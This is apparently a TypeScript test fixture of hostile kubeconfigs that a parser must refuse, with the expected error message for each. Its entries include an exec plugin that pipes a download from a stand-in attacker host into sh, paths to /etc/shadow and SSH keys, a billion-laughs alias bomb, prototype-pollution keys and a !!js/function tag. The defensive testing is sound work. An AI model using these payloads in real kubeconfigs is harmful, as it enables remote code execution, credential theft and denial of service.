/**
 * Kubeconfigs that parseKubeconfig must refuse, each with a pattern that the
 * refusal message must match (usually the path of the offending field).
 *
 * Every entry is otherwise a working token kubeconfig, so a refusal can only
 * come from the hostile part. All of them carry CORPUS_TOKEN, which no
 * message may ever contain.
 */
export interface HostileKubeconfig {
  name: string;
  text: string;
  field: RegExp;
  /** Accepted when the target allows insecure TLS. */
  allowedWithInsecureTls?: boolean;
}

/** A made-up bearer token; messages must never contain it or its base64. */
export const CORPUS_TOKEN = 'kd-corpus-token-4f9c2a7e1b5d8c3a6e0f';

const SERVER = 'https://k8s.example.com:6443';

interface Parts {
  cluster?: string[];
  user?: string[];
  context?: string[];
  /** Leaves the contexts list empty. */
  omitContext?: boolean;
  /** Further list entries, e.g. a second cluster. */
  moreClusters?: string[];
  moreUsers?: string[];
  moreContexts?: string[];
  /** Top-level lines appended after the usual keys. */
  extra?: string[];
}

function indent(lines: string[], spaces: number): string[] {
  return lines.map(line => `${' '.repeat(spaces)}${line}`);
}

/** A valid single-context token kubeconfig, with parts replaced as asked. */
export function buildKubeconfig(parts: Parts = {}): string {
  const {
    cluster = [`server: ${SERVER}`],
    user = [`token: ${CORPUS_TOKEN}`],
    context = ['cluster: prod', 'user: deployer'],
    moreClusters = [],
    moreUsers = [],
    moreContexts = [],
    omitContext = false,
    extra = [],
  } = parts;
  const contexts = omitContext
    ? []
    : ['  - name: prod', '    context:', ...indent(context, 6)];
  return [
    'apiVersion: v1',
    'kind: Config',
    'clusters:',
    '  - name: prod',
    '    cluster:',
    ...indent(cluster, 6),
    ...indent(moreClusters, 2),
    'users:',
    '  - name: deployer',
    '    user:',
    ...indent(user, 6),
    ...indent(moreUsers, 2),
    'contexts:',
    ...contexts,
    ...indent(moreContexts, 2),
    'current-context: prod',
    ...extra,
    '',
  ].join('\n');
}

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** Nine levels of nine aliases: about 387 million strings if expanded. */
function billionLaughs(): string[] {
  const names = 'abcdefghi'.split('');
  return [
    'preferences:',
    `  a: &a [${Array(9).fill('"lol"').join(', ')}]`,
    ...names
      .slice(1)
      .map(
        (name, i) =>
          `  ${name}: &${name} [${Array(9).fill(`*${names[i]}`).join(', ')}]`,
      ),
  ];
}

export const hostileKubeconfigs: HostileKubeconfig[] = [
  {
    name: 'exec credential plugin',
    text: buildKubeconfig({
      user: [
        'exec:',
        '  apiVersion: client.authentication.k8s.io/v1',
        '  command: /bin/sh',
        '  args: ["-c", "curl https://evil.example/x | sh"]',
      ],
    }),
    field:
      /users\[0\]\.user\.exec is not allowed: kubeconfigs are data, never code/,
  },
  {
    name: 'gcp auth-provider',
    text: buildKubeconfig({
      user: [
        'auth-provider:',
        '  name: gcp',
        '  config:',
        '    cmd-path: /usr/bin/gcloud',
        '    cmd-args: config config-helper --format=json',
      ],
    }),
    field:
      /users\[0\]\.user\.auth-provider is not allowed: kubeconfigs are data, never code/,
  },
  {
    name: 'oidc auth-provider',
    text: buildKubeconfig({
      user: [
        'auth-provider:',
        '  name: oidc',
        '  config:',
        '    idp-issuer-url: https://evil.example',
        '    client-id: x',
        '    refresh-token: y',
      ],
    }),
    field: /users\[0\]\.user\.auth-provider is not allowed/,
  },
  {
    name: 'tokenFile',
    text: buildKubeconfig({
      user: ['tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token'],
    }),
    field: /users\[0\]\.user\.tokenFile is not allowed/,
  },
  {
    name: 'client-certificate file path',
    text: buildKubeconfig({
      user: [
        `token: ${CORPUS_TOKEN}`,
        'client-certificate: /etc/kubernetes/admin.crt',
      ],
    }),
    field: /users\[0\]\.user\.client-certificate is not allowed/,
  },
  {
    name: 'client-key file path',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, 'client-key: /root/.ssh/id_rsa'],
    }),
    field: /users\[0\]\.user\.client-key is not allowed/,
  },
  {
    name: 'certificate-authority file path',
    text: buildKubeconfig({
      cluster: [`server: ${SERVER}`, 'certificate-authority: /etc/shadow'],
    }),
    field: /clusters\[0\]\.cluster\.certificate-authority is not allowed/,
  },
  {
    name: 'proxy-url',
    text: buildKubeconfig({
      cluster: [
        `server: ${SERVER}`,
        'proxy-url: socks5://attacker.example:1080',
      ],
    }),
    field: /clusters\[0\]\.cluster\.proxy-url is not allowed/,
  },
  {
    name: 'cluster extensions',
    text: buildKubeconfig({
      cluster: [
        `server: ${SERVER}`,
        'extensions:',
        '  - name: x',
        '    extension: {}',
      ],
    }),
    field: /clusters\[0\]\.cluster\.extensions is not allowed/,
  },
  {
    name: 'insecure-skip-tls-verify',
    text: buildKubeconfig({
      cluster: [`server: ${SERVER}`, 'insecure-skip-tls-verify: true'],
    }),
    field: /clusters\[0\]\.cluster\.insecure-skip-tls-verify is not allowed/,
    allowedWithInsecureTls: true,
  },
  {
    name: 'two contexts',
    text: buildKubeconfig({
      moreContexts: [
        '- name: other',
        '  context: {cluster: prod, user: deployer}',
      ],
    }),
    field: /exactly one cluster, one user and one context; found 2 contexts/,
  },
  {
    name: 'two users',
    text: buildKubeconfig({
      moreUsers: ['- name: admin', `  user: {token: ${CORPUS_TOKEN}}`],
    }),
    field: /found 2 users/,
  },
  {
    name: 'two clusters',
    text: buildKubeconfig({
      moreClusters: [
        '- name: shadow',
        '  cluster: {server: https://attacker.example}',
      ],
    }),
    field: /found 2 clusters/,
  },
  {
    name: 'no contexts at all',
    text: buildKubeconfig({ omitContext: true }),
    field: /found 0 contexts/,
  },
  {
    name: 'context pointing to a missing user',
    text: buildKubeconfig({ context: ['cluster: prod', 'user: root'] }),
    field: /contexts\[0\]\.context\.user names "root", which is not in users/,
  },
  {
    name: 'context pointing to a missing cluster',
    text: buildKubeconfig({
      context: ['cluster: elsewhere', 'user: deployer'],
    }),
    field: /contexts\[0\]\.context\.cluster names "elsewhere"/,
  },
  {
    name: 'current-context naming a missing context',
    text: buildKubeconfig().replace(
      'current-context: prod',
      'current-context: staging',
    ),
    field: /current-context names "staging", which is not in contexts/,
  },
  {
    name: 'no credentials',
    text: buildKubeconfig({ user: ['{}'] }),
    field: /users\[0\]\.user must have exactly one credential.*found none/,
  },
  {
    name: 'two credential kinds',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, 'username: admin', 'password: hunter2'],
    }),
    field:
      /users\[0\]\.user must have exactly one credential.*found token, username\/password/,
  },
  {
    name: 'client certificate without a key',
    text: buildKubeconfig({
      user: [
        `client-certificate-data: ${base64(
          '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
        )}`,
      ],
    }),
    field: /users\[0\]\.user\.client-key-data is required/,
  },
  {
    name: 'client key that is not PEM',
    text: buildKubeconfig({
      user: [
        `client-certificate-data: ${base64(
          '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
        )}`,
        `client-key-data: ${base64(`not a key but the token ${CORPUS_TOKEN}`)}`,
      ],
    }),
    field: /users\[0\]\.user\.client-key-data is not base64-encoded PEM/,
  },
  {
    name: 'certificate-authority-data that is not base64',
    text: buildKubeconfig({
      cluster: [
        `server: ${SERVER}`,
        'certificate-authority-data: "%%% not base64 %%%"',
      ],
    }),
    field:
      /clusters\[0\]\.cluster\.certificate-authority-data is not valid base64/,
  },
  {
    name: 'ftp server',
    text: buildKubeconfig({ cluster: ['server: ftp://k8s.example.com'] }),
    field: /clusters\[0\]\.cluster\.server must be an https:\/\/ URL/,
  },
  {
    name: 'file server',
    text: buildKubeconfig({ cluster: ['server: file:///var/run/docker.sock'] }),
    field: /clusters\[0\]\.cluster\.server must be an https:\/\/ URL/,
  },
  {
    name: 'plain http server',
    text: buildKubeconfig({ cluster: ['server: http://k8s.example.com:8080'] }),
    field: /clusters\[0\]\.cluster\.server must be an https:\/\/ URL/,
    allowedWithInsecureTls: true,
  },
  {
    name: 'server with userinfo',
    text: buildKubeconfig({
      cluster: [`server: https://admin:${CORPUS_TOKEN}@k8s.example.com`],
    }),
    field:
      /clusters\[0\]\.cluster\.server must not contain a user name or password/,
  },
  {
    name: 'YAML alias bomb (billion laughs)',
    text: buildKubeconfig({ extra: billionLaughs() }),
    field: /expands YAML aliases too many times/,
  },
  {
    name: 'duplicate keys',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, `token: ${CORPUS_TOKEN}-other`],
    }),
    field: /users\[0\]\.user\.token appears more than once/,
  },
  {
    name: '__proto__ key',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, '__proto__:', '  isAdmin: true'],
    }),
    field: /users\[0\]\.user\.__proto__ is not an allowed key/,
  },
  {
    name: 'constructor key',
    text: buildKubeconfig({ extra: ['constructor:', '  prototype: {}'] }),
    field: /constructor is not an allowed key/,
  },
  {
    name: 'oversize document',
    text: buildKubeconfig({
      extra: ['preferences:', `  padding: "${'x'.repeat(300 * 1024)}"`],
    }),
    field: /larger than 256 KiB/,
  },
  {
    name: '!!js/function tag',
    text: buildKubeconfig({
      cluster: [
        'server: !!js/function "function () { return require(\'child_process\') }"',
      ],
    }),
    field:
      /clusters\[0\]\.cluster\.server uses a YAML tag, which is not allowed/,
  },
  {
    name: '!binary tag',
    text: buildKubeconfig({ user: [`token: !binary ${base64(CORPUS_TOKEN)}`] }),
    field: /users\[0\]\.user\.token uses a YAML tag/,
  },
  {
    name: 'unknown user field',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, 'token-command: cat /etc/passwd'],
    }),
    field: /users\[0\]\.user\.token-command is not a supported field/,
  },
  {
    name: 'impersonation in the kubeconfig (as)',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, 'as: system:admin'],
    }),
    field:
      /users\[0\]\.user\.as is not allowed: impersonation is set on the target/,
  },
  {
    name: 'impersonation in the kubeconfig (as-groups)',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, 'as-groups: [system:masters]'],
    }),
    field: /users\[0\]\.user\.as-groups is not allowed/,
  },
  {
    name: 'impersonation extras',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, 'as-user-extra:', '  scopes: [all]'],
    }),
    field: /users\[0\]\.user\.as-user-extra is not allowed/,
  },
  {
    name: 'YAML merge key',
    text: buildKubeconfig({
      user: [`token: ${CORPUS_TOKEN}`, '<<: {exec: {command: sh}}'],
    }),
    field: /users\[0\]\.user\.<unusual key> is not a supported field/,
  },
  {
    name: 'two YAML documents',
    text: `${buildKubeconfig()}---\n${buildKubeconfig()}`,
    field: /not valid YAML \(MULTIPLE_DOCS at line \d+, column \d+\)/,
  },
  {
    name: 'list at the root',
    text: `- ${CORPUS_TOKEN}\n`,
    field: /kubeconfig must be a YAML mapping/,
  },
  {
    name: 'not a Config',
    text: buildKubeconfig().replace('kind: Config', 'kind: Secret'),
    field: /kubeconfig kind must be "Config"/,
  },
  {
    name: 'token with an unterminated quote',
    text: buildKubeconfig({ user: [`token: "${CORPUS_TOKEN}`] }),
    field:
      /kubeconfig is not valid YAML \(MISSING_CHAR at line \d+, column \d+\)/,
  },
];
